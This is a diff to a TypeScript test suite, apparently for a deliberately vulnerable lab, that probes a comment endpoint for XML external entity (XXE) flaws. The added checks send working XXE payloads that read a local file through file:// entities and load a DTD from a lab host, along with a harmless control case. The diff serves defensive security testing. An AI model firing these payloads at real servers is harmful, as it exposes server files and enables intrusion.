@@ -8,9 +8,11 @@ const XML = [['Content-Type', 'application/xml']] as const;
 
 const sendXml = (client: Client, body: string) => client.send('POST', '/comments', { headers: XML, body });
 
-/** A comment with declarations, whose text is `&e;`. */
-const declaring = (declarations: string, text = '&e;') =>
-  `<?xml version="1.0"?>\n<!DOCTYPE comment [${declarations}]>\n<comment><text>${text}</text></comment>`;
+/** A comment with declarations, whose text is `&e;`, after something that may stand before a DOCTYPE. */
+const startingWith = (start: string, declarations: string, text = '&e;') =>
+  `${start}<!DOCTYPE comment [${declarations}]>\n<comment><text>${text}</text></comment>`;
+
+const declaring = (declarations: string, text?: string) => startingWith('<?xml version="1.0"?>\n', declarations, text);
 
 const OPENED = {
   vi: 'Khi đọc tài liệu này, máy chủ đã mở một tệp hoặc gọi một máy khác.',
@@ -84,6 +86,18 @@ export const checks = defineChecks<Facts>({
       },
     },
     {
+      id: 'other-start',
+      kind: 'attack',
+      title: { vi: 'Tài liệu bắt đầu bằng thứ khác', en: 'A document that begins with something else' },
+      run: (trial) =>
+        tryAll(
+          trial,
+          ['', '\n\n', '<!-- x -->', '<?x y?>'].map((start) =>
+            startingWith(start, `<!ENTITY e SYSTEM "file://${trial.facts.note.path}">`),
+          ),
+        ),
+    },
+    {
       id: 'by-dtd',
       kind: 'attack',
       title: { vi: 'Khai báo nằm ở máy khác', en: 'Declarations on another host' },
@@ -94,6 +108,7 @@ export const checks = defineChecks<Facts>({
         return tryAll(trial, [
           '<!DOCTYPE comment SYSTEM "http://webwolf/files/x.dtd"><comment><text>&e;</text></comment>',
           declaring('<!ENTITY % d SYSTEM "http://webwolf/files/x.dtd">%d;'),
+          `<!DOCTYPE comment SYSTEM "file://${trial.facts.note.path}"><comment><text>x</text></comment>`,
         ]);
       },
     },
@@ -135,6 +150,10 @@ export const checks = defineChecks<Facts>({
             `A &amp; B ${number}`,
           ],
           [`<comment><text>${number} &#233;<![CDATA[ < ]]></text></comment>`, `${number} é &lt;`],
+          [
+            `<comment><text>DOCTYPE, ENTITY, SYSTEM, PUBLIC: http://sach.example/xml/${number}</text></comment>`,
+            `DOCTYPE, ENTITY, SYSTEM, PUBLIC: http://sach.example/xml/${number}`,
+          ],
           [`<comment><by>An</by><text>file: ${number}</text></comment>`, `file: ${number}`],
         ];
         for (const [document, shown] of documents) {
